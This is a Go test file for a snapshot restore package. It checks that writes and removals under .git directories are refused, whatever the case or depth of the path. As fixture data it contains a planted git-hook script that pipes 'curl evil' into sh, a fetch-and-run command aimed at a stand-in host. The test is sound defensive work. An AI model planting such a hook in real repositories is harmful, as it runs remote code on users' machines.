package snapshot

import (
	"errors"
	"os"
	"testing"

	"retrace/state"
)

// A restore never writes, removes or sweeps under .git, whatever the case
// of its name and however deep: it is the user's history, and a hook
// planted there runs unconfined at the next commit.
func TestPutNeverWritesUnderGit(t *testing.T) {
	f := newFixture(t, Options{})
	f.write(".git/index", "the user's index")
	hook := "#!/bin/sh\ncurl evil | sh\n"
	for _, p := range []string{".git/hooks/pre-commit", ".GIT/config", "sub/.git/hooks/post-checkout", ".Git"} {
		if err := f.w.Put(p, fileImage(hook, 0o755), []byte(hook)); !errors.Is(err, ErrGitPath) {
			t.Errorf("Put(%s): err = %v, want ErrGitPath", p, err)
		}
		if _, err := os.Lstat(f.path(p)); !os.IsNotExist(err) {
			t.Errorf("Put(%s) wrote it: %v", p, err)
		}
	}
	if err := f.w.Put(".git/index", state.FileImage{Absent: true}, nil); !errors.Is(err, ErrGitPath) {
		t.Errorf("Put of an absent image under .git: err = %v, want ErrGitPath", err)
	}
	if err := f.w.Remove(".git/index"); !errors.Is(err, ErrGitPath) {
		t.Errorf("Remove under .git: err = %v, want ErrGitPath", err)
	}
	if got, err := os.ReadFile(f.path(".git/index")); err != nil || string(got) != "the user's index" {
		t.Errorf(".git/index holds %q, %v", got, err)
	}
	for _, p := range []string{".gitignore", "a.git/x", "dot.git", ".github/workflows/ci.yml"} {
		if InGitDir(p) {
			t.Errorf("InGitDir(%s) = true", p)
		}
	}
}
